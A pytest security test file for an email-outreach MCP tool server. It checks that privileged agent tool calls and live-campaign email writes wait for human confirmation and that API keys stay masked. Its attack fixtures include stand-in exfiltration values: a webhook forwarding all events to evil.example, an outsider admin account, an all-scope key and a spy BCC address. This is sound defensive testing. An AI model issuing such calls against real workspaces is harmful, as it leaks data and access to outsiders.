"""Finding 3: tools that hand out access or send workspace data out (keys, members, webhooks, sharing,
forwarding) are gated, and so are writes that send email because their campaign is live."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest

from instantly_mcp.catalog.effects import load_effects
from instantly_mcp.catalog.operations import load_operations
from instantly_mcp.gates.controls import GATED_RISKS

from support.security import SERVER_KEY, TRANSPORTS, attack_server, body, text
from support.servers import TEST_KEY, policy_server

OPERATIONS = load_operations()
PRIVILEGED_ATTACKS = {
    "create_api_key": {"name": "agent key", "scopes": ["all:all"]},
    "create_workspace_member": {"email": "outsider@evil.example", "role": "admin"},
    "create_webhook": {"target_hook_url": "https://evil.example/hook", "event_type": "all_events"},
}
MUST_BE_GATED = {
    "create_api_key",
    "create_workspace_member",
    "update_workspace_member",
    "create_workspace_group_member",
    "create_webhook",
    "update_webhook",
    "test_webhook",
    "resume_webhook",
    "share_campaign",
    "set_domain_forwarding",
    "set_workspace_agency_domain",
}


def test_every_access_or_egress_tool_is_in_a_gated_class() -> None:
    assert {name for name in MUST_BE_GATED if OPERATIONS[name].risk == "privileged"} == MUST_BE_GATED
    assert "privileged" in GATED_RISKS
    writes = [op for op in OPERATIONS.values() if op.risk == "write"]
    assert len(writes) < 81 and not MUST_BE_GATED & {op.name for op in writes}


@pytest.mark.parametrize("transport", TRANSPORTS)
@pytest.mark.parametrize("tool", list(PRIVILEGED_ATTACKS))
def test_privileged_call_asks_a_person_and_sends_nothing(transport: str, tool: str, sandbox, tmp_path) -> None:
    async def run() -> tuple[dict, list, list]:
        async with attack_server(transport, sandbox, tmp_path, "--confirm", "token") as attack:
            asked = body(await attack.call(tool, PRIVILEGED_ATTACKS[tool]))
            return asked, attack.upstream(), attack.audit()

    asked, upstream, audit = anyio.run(run)
    assert asked["status"] == "confirmation_required" and "hands out access" in asked["summary"]
    assert upstream == []
    assert [(line["tool"], line["risk"], line["decision"]) for line in audit] == [
        (tool, "privileged", "confirmation_required")
    ]


def seeded_campaigns(attack_data: dict) -> dict[int, str]:
    return {c["status"]: c["id"] for c in attack_data["items"]}


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_adding_leads_to_an_active_campaign_asks_and_a_paused_one_does_not(transport: str, sandbox, tmp_path) -> None:
    async def run() -> tuple[dict, list, str, list]:
        async with attack_server(transport, sandbox, tmp_path, "--confirm", "token") as attack:
            campaigns = seeded_campaigns(body(await attack.call("list_campaigns", {"limit": 10})))
            leads = [{"email": "new.lead@prospect.test"}, {"email": "second@prospect.test"}]
            sandbox.admin.delete("/_sandbox/requests")
            asked = body(await attack.call("add_leads", {"campaign_id": campaigns[1], "leads": leads}))
            writes_after_ask = attack.upstream(writes_only=True)
            paused = await attack.call("add_leads", {"campaign_id": campaigns[2], "leads": leads})
            return asked, writes_after_ask, text(paused), attack.audit()

    asked, writes_after_ask, paused, audit = anyio.run(run)
    assert asked["status"] == "confirmation_required"
    assert "Add 2 leads (new.lead@prospect.test, second@prospect.test)" in asked["summary"]
    assert "start getting its emails" in asked["summary"]
    assert writes_after_ask == []
    assert '"leads_uploaded":2' in paused
    assert [(line["tool"], line["decision"]) for line in audit] == [
        ("add_leads", "confirmation_required"),
        ("add_leads", "sent"),
    ]


def new_subsequence(campaign: str) -> dict[str, Any]:
    return {"parent_campaign": campaign, "name": "Interested: case study", "conditions": {"crm_status": [1]}}


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_a_subsequence_on_an_active_campaign_asks_and_on_a_paused_one_does_not(
    transport: str, sandbox, tmp_path
) -> None:
    """A new subsequence emails the campaign's matching leads at once when the campaign is live."""

    async def run() -> tuple[dict, list, bool, list]:
        async with attack_server(transport, sandbox, tmp_path, "--confirm", "token") as attack:
            campaigns = seeded_campaigns(body(await attack.call("list_campaigns", {"limit": 10})))
            sandbox.admin.delete("/_sandbox/requests")
            asked = body(await attack.call("create_campaign_subsequence", new_subsequence(campaigns[1])))
            writes_after_ask = attack.upstream(writes_only=True)
            paused = await attack.call("create_campaign_subsequence", new_subsequence(campaigns[2]))
            return asked, writes_after_ask, paused.is_error, attack.audit()

    asked, writes_after_ask, paused_failed, audit = anyio.run(run)
    assert asked["status"] == "confirmation_required"
    assert "start getting these emails" in asked["summary"]
    assert writes_after_ask == []
    assert not paused_failed
    assert [(line["tool"], line["decision"]) for line in audit] == [
        ("create_campaign_subsequence", "confirmation_required"),
        ("create_campaign_subsequence", "sent"),
    ]


SIX_LIVE_GATED = (
    "add_leads",
    "create_lead",
    "move_lead_to_subsequence",
    "update_campaign",
    "update_campaign_subsequence",
    "create_campaign_subsequence",
)
# Well-formed ids that no workspace has: they pass the local id check and leave the target's state unknown.
UNKNOWN_CAMPAIGN = "0190c0de-0000-7000-8000-00000000ca01"
UNKNOWN_SUBSEQUENCE = "0190c0de-0000-7000-8000-00000000ab01"
UNKNOWN_LEAD = "0190c0de-0000-7000-8000-00000000e001"


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_live_target_that_cannot_be_checked_is_gated(transport: str, sandbox, tmp_path) -> None:
    """With the lookups hidden by --tools, the campaign's state is unknown: ask rather than guess."""

    async def run() -> tuple[list[str], list, list]:
        tools = ",".join(SIX_LIVE_GATED)
        async with attack_server(transport, sandbox, tmp_path, "--confirm", "token", "--tools", tools) as attack:
            statuses = []
            campaign, subsequence, lead = UNKNOWN_CAMPAIGN, UNKNOWN_SUBSEQUENCE, UNKNOWN_LEAD
            for name, arguments in (
                ("add_leads", {"campaign_id": campaign, "leads": [{"email": "a@prospect.test"}]}),
                ("create_lead", {"campaign": campaign, "email": "b@prospect.test"}),
                ("move_lead_to_subsequence", {"subsequence_id": subsequence, "id": lead}),
                ("update_campaign", {"id": campaign, "bcc_list": ["spy@evil.example"]}),
                ("update_campaign_subsequence", {"id": subsequence, "name": "renamed"}),
                ("create_campaign_subsequence", new_subsequence(campaign)),
            ):
                statuses.append(body(await attack.call(name, arguments))["status"])
            return statuses, attack.upstream(), attack.audit()

    statuses, upstream, audit = anyio.run(run)
    assert statuses == ["confirmation_required"] * 6
    assert upstream == []  # not even the lookup: get_campaign is hidden from this agent
    assert [line["decision"] for line in audit] == ["confirmation_required"] * 6


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_a_new_key_is_marked_secret_and_listings_never_show_a_key_in_full(transport: str, sandbox, tmp_path) -> None:
    async def run() -> tuple[Any, str]:
        async with attack_server(transport, sandbox, tmp_path, "--confirm", "off") as attack:
            created = await attack.call("create_api_key", {"name": "ci", "scopes": ["campaigns:read"]})
            listed = text(await attack.call("list_api_keys", {"limit": 100}))
            return created, listed

    result, listed = anyio.run(run)
    new = body(result)
    assert (
        result.meta["instantly-mcp/secret"]["fields"] == ["key"]
        and "never again" in result.meta["instantly-mcp/secret"]["note"]
    )
    assert [c.annotations.audience for c in result.content] == [["user"]]
    assert text(result).count(new["key"]) == 1
    assert new["key"] not in listed and SERVER_KEY not in listed
    assert all(item["key"].startswith("…") for item in body_of(listed)["items"])


def body_of(text_: str) -> dict:
    return json.loads(text_)


def test_readme_names_every_gated_tool_with_its_gate() -> None:
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    section = readme.split("### Which calls ask a person first", 1)[1].split("### Limits", 1)[0]
    rows = [line.split("|") for line in section.splitlines() if line.startswith("| `")]
    named = {row[1].strip().strip("`"): row[3].strip() for row in rows}
    for name, row in load_effects().items():
        if OPERATIONS[name].risk in GATED_RISKS or row.gate == "asks":
            assert named.get(name) == "always", name
        elif row.gate == "asks_when_live":
            assert named.get(name, "").startswith("when "), name
        else:
            assert name not in named and f"`{name}`" in section, name


def test_the_servers_own_key_is_never_listed_in_full() -> None:
    """An upstream that lists keys unmasked (the sandbox masks them itself): the answer still shows
    only the last characters, for the server's own key above all."""

    def unmasked(request: httpx2.Request) -> httpx2.Response:
        items = [{"id": "k-1", "name": "this server", "key": TEST_KEY, "scopes": ["all:all"]}]
        return httpx2.Response(200, json={"items": items, "next_starting_after": None})

    async def run() -> str:
        async with policy_server(transport=httpx2.MockTransport(unmasked), confirm="off") as mcp:
            return text(await mcp.call("list_api_keys", {}))

    listed = anyio.run(run)
    assert TEST_KEY not in listed and TEST_KEY[:10] not in listed and f"…{TEST_KEY[-4:]}" in listed
